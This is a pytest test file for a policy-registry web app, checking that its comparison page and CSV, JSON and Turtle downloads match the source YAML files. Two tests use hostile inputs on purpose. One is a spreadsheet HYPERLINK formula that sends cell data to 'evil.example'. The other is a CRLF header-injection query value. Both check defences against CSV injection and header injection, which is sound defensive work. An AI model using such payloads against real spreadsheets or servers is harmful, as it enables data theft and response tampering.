"""The comparison is true: page, downloads and queries say what the YAML files say, which this test reads for itself.

That every collected fact stands in those files is the matter of tests/data/test_facts.py.
"""

import csv
import io
import re
from collections import Counter
from html.parser import HTMLParser
from itertools import product

import pytest
import yaml
from pyoxigraph import Literal, RdfFormat, parse

from registry.model import Source
from registry.store.embedded import EmbeddedStore
from registry.store.protocol import select
from registry.store.sparql_text import bind, insert_data
from registry.web.app import create_app
from tests.support import merged
from tests.support.merged import AT, COMPILED, LISTED, SETTINGS, fill
from tests.support.places import ROOT
from tests.support.sites import caught_up

FOLDER = ROOT / "registry" / "data" / "sources"
CONTRACT = (
    "country,level,issuer,office,activity,stage,coverage,force,status,policy,policy_url,issued,layer,source".split(",")
)
ACTIVITIES, STAGES = ("use", "contribute", "produce"), ("present", "prioritize", "promote")
CELLS = tuple(product(ACTIVITIES, STAGES))
# What a cell shows: the first of these forces among the statements that hold, else why nothing holds.
ORDER = (
    "required comply-or-explain required-to-preferred preferred considered permitted encouraged neutral informational"
).split()
HOLDING = {"in-force", "partly-in-force", "adopted", "unknown"}
INSTEAD = {
    "proposed": "pending",
    "expired": "expired",
    "replaced": "expired",
    "repealed": "expired",
    "failed": "failed",
}
PLACES = {"EL": "GR"}


# What the files say, read without any of our code.


def several(value):
    return value if isinstance(value, list) else [value]


def english(value):
    """Return a text: in English if there is one, else in the language it is given in."""
    if isinstance(value, str):
        return value
    assert "en" in value or len(value) == 1, value
    return value.get("en") or next(iter(value.values()))


def in_file(name, document):
    """Yield the statements of a file as rows of the comparison; an office stands for its home page."""
    alone = [(policy, {}) for policy in document.get("policies", [])]
    issued = [(policy, office) for office in document.get("offices", []) for policy in office.get("policies", [])]
    for policy, office in alone + issued:
        issuer = policy.get("issuer", office.get("name", ""))
        whole = {
            "country": policy["country"],
            "level": policy.get("level", ""),
            "issuer": english(issuer.get("name", issuer) if isinstance(issuer, dict) else issuer),
            "office": office.get("url", ""),
            "policy": english(policy["title"]),
            "policy_url": policy.get("url", ""),
            "issued": policy.get("issued", ""),
            "layer": "compiled",
            "source": f"{SETTINGS.base}/sources/{name}",
        }
        for activity, stages in policy.get("matrix", {}).items():
            for stage, cell in stages.items():
                for one in several(cell):
                    stated = {"coverage": one} if isinstance(one, str) else {"coverage": "stated", **one}
                    status = stated.get("status") or policy.get("status", "unknown")
                    cell = {"activity": activity, "stage": stage, "status": status, "force": stated.get("force", "")}
                    named = several(stated.get("evidence") or policy.get("evidence", []))
                    evidence = [each if isinstance(each, str) else each["page"] for each in named]
                    yield (
                        whole
                        | cell
                        | {
                            "coverage": stated["coverage"],
                            "text": english(stated.get("text", "")),
                            "evidence": " ".join(sorted(evidence)),
                            "checked": stated.get("checked") or policy.get("checked", ""),
                            "accessed": stated.get("accessed") or policy.get("accessed", ""),
                        }
                    )


def compared(documents):
    """Return the statements of these files, and all countries that they tell of."""
    statements = [row for name, document in documents.items() for row in in_file(name, document)]
    described = [
        thing
        for document in documents.values()
        for thing in (*document.get("policies", []), *document.get("offices", []))
    ]
    return statements, {PLACES.get(thing["country"], thing["country"]) for thing in described}


def chosen(documents, wanted):
    """Return the rows that filters (name → values) leave, and whether cells may be empty because of them."""
    statements, countries = compared(documents)
    kept = [row for row in statements if all(row[name] in values for name, values in wanted.items())]
    narrowed = bool(set(wanted) - {"country", "activity", "stage"})
    filled = {(row["country"], row["activity"], row["stage"]) for row in kept}
    cells = [(country, activity, stage) for country in countries for activity, stage in CELLS]
    named = [dict(zip(("country", "activity", "stage"), cell, strict=True)) for cell in cells if cell not in filled]
    empty = [cell for cell in named if all(cell[name] in values for name, values in wanted.items() if name in cell)]
    return kept + [cell | {"coverage": "not-assessed"} for cell in ([] if narrowed else empty)], narrowed


def shown(rows):
    """Return what a cell of the page shows for these rows, and how many statements it counts."""
    stated = [row for row in rows if row["coverage"] == "stated"]
    forces = {row["force"] for row in stated if row["status"] in HOLDING}
    reasons = {INSTEAD.get(row["status"]) for row in stated} | {row["coverage"] for row in rows}
    instead = ("pending", "expired", "failed", "excluded", "silent", "not-assessed")
    key = next(key for key in (*ORDER, *instead) if key in (forces or reasons))
    return key, len([row for row in rows if row.get("policy")])


# What is served.


@pytest.fixture(scope="module")
def bundled():
    """The bundled files as text alone, and the site on a store filled from them by the real path."""
    sources = merged.bundled()
    store = fill(EmbeddedStore(), sources)
    texts = {name: body.decode() for name, (_, body) in sources.items()}
    return Site({name: yaml.load(text, yaml.BaseLoader) for name, text in texts.items()}, store)


@pytest.fixture(scope="module")
def small():
    """The same for a store in which cells are silent, excluded and not assessed too."""
    documents = {"bundled-fr": yaml.load(COMPILED, yaml.BaseLoader)}
    offices = yaml.load(LISTED, yaml.BaseLoader).items()
    documents["list"] = {"offices": [{"url": url, **office} for url, office in offices]}
    return Site(documents, fill(EmbeddedStore()))


class Site:
    """Files, the store filled from them, and what the site answers; an office is shown as its home page."""

    def __init__(self, documents, store):
        self.documents, self.store = documents, store
        self.client = create_app(SETTINGS, store).test_client()
        self.pages = {row["office"].value: row["page"].value for row in self.select(OFFICES)}
        self.names = {page: iri.rpartition("/")[2] for iri, page in self.pages.items()}

    def select(self, text):
        return select(self.store, bind(PREFIXES + text, merged=f"{SETTINGS.base}/merged"))

    def get(self, path, **headers):
        response = self.client.get(path, headers={"Accept-Language": "en", **headers})
        assert response.status_code == 200, path
        return response

    def plain(self, row):
        office = self.pages[f"{SETTINGS.base}/id/office/{row['office']}"] if row.get("office") else ""
        return row | {"office": office}

    def csv(self, query=""):
        text = self.get(f"/compare.csv?{query}").text
        return [self.plain(row) for row in csv.DictReader(io.StringIO(text, newline=""))]

    def json(self, query=""):
        return [self.plain(row) for row in self.get(f"/compare.json?{query}").get_json()["rows"]]

    def page(self, query=""):
        table = Table(self.get(f"/compare?{query}", Accept="text/html").text)
        assert table.open == 0
        return table.cells


class Table(HTMLParser):
    """The cells of the comparison's table: (country, activity, stage) → (what is shown, how many statements)."""

    def __init__(self, html):
        super().__init__()
        self.cells, self.open, self.cell, self.text = {}, 0, None, ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.open += tag == "table"
        link = dict(attrs)
        if self.open and tag == "a" and (found := re.fullmatch(r"/countries/(\w+)#(\w+)-(\w+)", link["href"])):
            (key,) = re.findall(r"f-(\S+)", link["class"])
            self.cell, self.text = (found.groups(), key), ""

    def handle_data(self, data):
        self.text += data

    def handle_endtag(self, tag):
        self.open -= tag == "table"
        if tag == "a" and self.cell:
            place, key = self.cell
            assert place not in self.cells
            count = re.search(r"(\d+) statements", self.text)
            self.cells[place] = (key, int(count[1]) if count else None)
            self.cell = None


PREFIXES = "".join(
    f"PREFIX {prefix}: <{iri}>\n"
    for prefix, iri in {
        "ospo": "https://w3id.org/ospo/ns#",
        "dcterms": "http://purl.org/dc/terms/",
        "foaf": "http://xmlns.com/foaf/0.1/",
    }.items()
)
OFFICES = "SELECT ?office ?page WHERE { GRAPH $merged { ?office a ospo:Office ; foaf:homepage ?page } }"
STATEMENTS = "SELECT ?statement WHERE { GRAPH $merged { ?statement a ospo:PolicyStatement } }"
RETITLE = """WITH $merged DELETE { ?policy dcterms:title ?old } INSERT { ?policy dcterms:title $title }
WHERE { ?policy a ospo:FlossPolicy ; dcterms:title ?old }"""
QUERY = """SELECT ?statement ?country ?level ?issuer ?office ?activity ?stage ?coverage ?force ?status
  ?policy ?policy_url ?issued ?layer ?source
WHERE { GRAPH $merged {
  ?statement a ospo:PolicyStatement ; dcterms:isPartOf ?it ; dcterms:source ?source ; ospo:countryCode ?country ;
    ospo:activity ?activity ; ospo:stage ?stage ; ospo:coverage ?coverage ; ospo:status ?status ;
    ospo:assessmentKind ?layer .
  ?it a ospo:FlossPolicy ; dcterms:title ?policy .
  OPTIONAL { ?statement ospo:force ?force } OPTIONAL { ?it ospo:level ?level }
  OPTIONAL { ?it ospo:issuerName ?issuer } OPTIONAL { ?it foaf:page ?policy_url }
  OPTIONAL { ?it dcterms:issued ?issued } OPTIONAL { ?it ospo:office/foaf:homepage ?office }
} }"""
CODES = {"activity", "stage", "coverage", "force", "status", "level", "layer"}


def coded(name, value):
    """Return a term as the comparison writes it: a concept by its code."""
    prefix = f"https://w3id.org/ospo/concept/{'assessment-kind' if name == 'layer' else name}/"
    assert name not in CODES or value.value.startswith(prefix), (name, value)
    return value.value.removeprefix(prefix)


def multiset(rows, columns):
    return Counter(tuple(row.get(name, "") for name in columns) for row in rows)


# Query string → the filters it stands for; an office is named by its home page.
FILTERS = {
    "": {},
    "country=FR": {"country": {"FR"}},
    "country=FR&country=de&country=UK": {"country": {"FR", "DE", "GB"}},
    "country=EL&activity=use": {"country": {"GR"}, "activity": {"use"}},
    "country=QQ": {"country": {"QQ"}},
    "activity=use&activity=produce&stage=present": {"activity": {"use", "produce"}, "stage": {"present"}},
    "stage=promote&force=informational&force=encouraged": {
        "stage": {"promote"},
        "force": {"informational", "encouraged"},
    },
    "force=required": {"force": {"required"}},
    "force=required&activity=produce&stage=present&status=in-force": {
        "force": {"required"},
        "activity": {"produce"},
        "stage": {"present"},
        "status": {"in-force"},
    },
    "status=expired&status=failed": {"status": {"expired", "failed"}},
    "level=local&level=regional&country=FR": {"level": {"local", "regional"}, "country": {"FR"}},
    "layer=compiled": {"layer": {"compiled"}},
    "layer=imported&layer=self-declared": {"layer": {"imported", "self-declared"}},
    "office={https://code.gouv.fr}": {"office": {"https://code.gouv.fr"}},
    "office={https://code.gouv.fr}&office={https://www.echirolles.fr/territoire-numerique}&activity=use": {
        "office": {"https://code.gouv.fr", "https://www.echirolles.fr/territoire-numerique"},
        "activity": {"use"},
    },
    "force=&colour=red&office=": {},
    "force=strong": {"force": {"strong"}},
}


def asked(site, query):
    return re.sub(r"\{(.+?)\}", lambda match: site.names.get(match[1], "nobody"), query)


def queried(store, text=QUERY):
    """Return the rows of the query, one a statement: with an English title where there are several."""
    rows = select(store, bind(PREFIXES + text, merged=f"{SETTINGS.base}/merged"))
    rows.sort(key=lambda row: row["policy"].language == "en")
    named = {row["statement"].value: row for row in rows}.values()
    return [{name: coded(name, row[name]) if name in row else "" for name in CONTRACT} for row in named]


@pytest.fixture(params=["bundled", "small"])
def site(request):
    return request.getfixturevalue(request.param)


def test_all_statements_of_the_bundled_sources_are_compared(bundled):
    statements, countries = compared(bundled.documents)
    assert len(statements) >= 372
    assert len(countries) == len(bundled.documents) == len(list(FOLDER.glob("*.yaml")))
    stated = [row for row in statements if row["coverage"] == "stated"]
    assert len([row for row in bundled.csv() if row["coverage"] == "stated"]) == len(stated)
    assert len(bundled.pages) == sum(len(document.get("offices", [])) for document in bundled.documents.values())


@pytest.mark.parametrize("query", FILTERS)
def test_csv_and_json_say_what_the_files_say(site, query):
    expected, _ = chosen(site.documents, FILTERS[query])
    assert multiset(site.csv(asked(site, query)), CONTRACT) == multiset(expected, CONTRACT)
    assert multiset(site.json(asked(site, query)), CONTRACT) == multiset(expected, CONTRACT)


@pytest.mark.parametrize("query", FILTERS)
def test_the_cells_of_the_page_show_and_count_what_the_files_say(site, query):
    wanted = FILTERS[query]
    rows, narrowed = chosen(site.documents, wanted)
    left = [cell for cell in CELLS if all(cell[at] in wanted.get(name, cell) for at, name in enumerate(CONTRACT[4:6]))]
    filled = {(row["country"], row["activity"], row["stage"]) for row in compared(site.documents)[0]}
    expected = {}
    for country, cell in product({row["country"] for row in rows}, left):
        inside = [row for row in rows if (row["country"], row["activity"], row["stage"]) == (country, *cell)]
        empty = "no-match" if (country, *cell) in filled else "not-assessed"
        key, count = shown(inside) if inside else (empty, 0)
        expected[country, *cell] = key, count if count > 1 else None
    assert narrowed or "no-match" not in {key for key, _ in expected.values()}
    assert site.page(asked(site, query)) == expected


@pytest.mark.parametrize("query", FILTERS)
def test_turtle_says_what_the_files_say(site, query):
    triples = [quad.triple for quad in parse(site.get(f"/compare.ttl?{asked(site, query)}").data, RdfFormat.TURTLE)]
    assert len(triples) == len(set(triples))
    store = EmbeddedStore()
    store.update(insert_data(f"{SETTINGS.base}/merged", triples))
    # The descriptions of offices are not part of it, only their names are.
    found = queried(store, QUERY.replace("ospo:office/foaf:homepage", "ospo:office"))
    found = [row | {"office": site.pages.get(row["office"], "")} for row in found]
    expected = [row for row in chosen(site.documents, FILTERS[query])[0] if "policy" in row]
    assert multiset(found, CONTRACT) == multiset(expected, CONTRACT)


def test_a_query_on_the_merged_graph_finds_what_the_files_say(site):
    assert multiset(queried(site.store), CONTRACT) == multiset(compared(site.documents)[0], CONTRACT)


def test_each_row_keeps_its_words_its_evidence_and_how_well_it_was_checked(site):
    columns = ("country", "activity", "stage", "policy", "text", "evidence", "checked", "accessed")
    rows = [row | {"evidence": " ".join(sorted(row["evidence"].split()))} for row in site.json() if row["policy"]]
    assert multiset(rows, columns) == multiset(compared(site.documents)[0], columns)


def test_each_row_names_a_statement_that_the_merged_graph_has_and_when_it_was_read(site):
    rows = [row for row in site.json() if row["policy"]]
    known = [row["statement"].value for row in site.select(STATEMENTS)]
    assert sorted(row["statement"] for row in rows) == sorted(known)
    assert {row["fetched"] for row in rows} == {AT.isoformat()}


def test_the_downloads_have_the_countries_in_the_order_of_the_page(site):
    order = list(dict.fromkeys(country for country, _, _ in site.page()))
    assert list(dict.fromkeys(row["country"] for row in site.csv())) == order
    assert list(dict.fromkeys(row["country"] for row in site.json())) == order


def test_json_says_what_was_asked_what_was_not_understood_and_under_which_licences(bundled):
    found = bundled.get("/compare.json?force=strong&country=UK&country=FR&colour=red").get_json()
    assert found["filters"] == {"country": ["FR", "GB"], "force": ["strong"]}
    assert found["address"] == f"{SETTINGS.base}/compare.json?force=strong&country=UK&country=FR&colour=red"
    (complaint,) = found["complaints"]
    assert complaint.startswith("force=strong is not known: choose one of comply-or-explain, ")
    assert found["licences"].keys() == bundled.documents.keys()
    assert found["revision"] == bundled.client.get("/-/health").get_json()["revision"] > 0


def test_csv_keeps_to_rfc_4180(site):
    response = site.get("/compare.csv")
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    bare = re.sub(r'"(?:[^"]|"")*"', "", response.text)
    assert '"' not in bare
    lines = bare.split("\r\n")
    assert lines.pop() == ""
    assert {line.count(",") for line in lines} == {lines[0].count(",")}
    assert "\r" not in "".join(lines)
    assert "\n" not in "".join(lines)
    assert lines[0].split(",")[: len(CONTRACT)] == CONTRACT


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_nothing_in_csv_is_a_formula_and_json_has_it_as_it_was_said(start):
    title = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,'x')\r\n{start}1"
    store = fill(EmbeddedStore())
    store.update(bind(PREFIXES + RETITLE, merged=f"{SETTINGS.base}/merged", title=Literal(title)))
    site = Site({}, store)
    titles = {row["policy"] for row in site.csv() if row["policy"]}
    assert titles == {f"'{title}"}
    assert {row["policy"] for row in site.json() if row["policy"]} == {title}
    assert [value for row in site.csv() for value in row.values() if value.startswith(start)] == []


@pytest.mark.parametrize("suffix", ["csv", "json", "ttl"])
def test_a_download_is_sent_again_only_when_it_has_changed(suffix):
    store = fill(EmbeddedStore())
    client = create_app(SETTINGS, store).test_client()
    path = f"/compare.{suffix}?activity=use"
    first = client.get(path)
    tag = first.headers["ETag"]
    assert not tag.startswith("W/")
    for known in (tag, f'"other", {tag}', f"W/{tag}", "*"):
        again = client.get(path, headers={"If-None-Match": known})
        assert (again.status_code, again.data, again.headers["ETag"]) == (304, b"", tag)
        assert {"Accept", "Accept-Language"} <= set(again.vary)
    assert client.get(path, headers={"If-None-Match": '"other"'}).data == first.data
    assert client.get(f"/compare.{suffix}", headers={"If-None-Match": tag}).status_code == 200
    source = Source("new", "https://new.example/ospo.yaml")
    fill(store, {"new": (source, COMPILED.replace(b"fr-old", b"fr-new"))})
    caught_up(client)
    changed = client.get(path, headers={"If-None-Match": tag})
    assert changed.status_code == 200
    assert changed.headers["ETag"] != tag


def test_csv_is_saved_under_a_name_also_when_it_comes_from_the_cache(small):
    for _ in range(2):
        response = small.get("/compare.csv?office=%0d%0aX-Evil:1")
        assert response.headers["Content-Disposition"] == 'attachment; filename="ospo-atlas-comparison.csv"'
        assert {"Accept", "Accept-Language"} <= set(response.vary)
    assert small.client.head("/compare.csv").headers["Content-Disposition"].startswith("attachment")
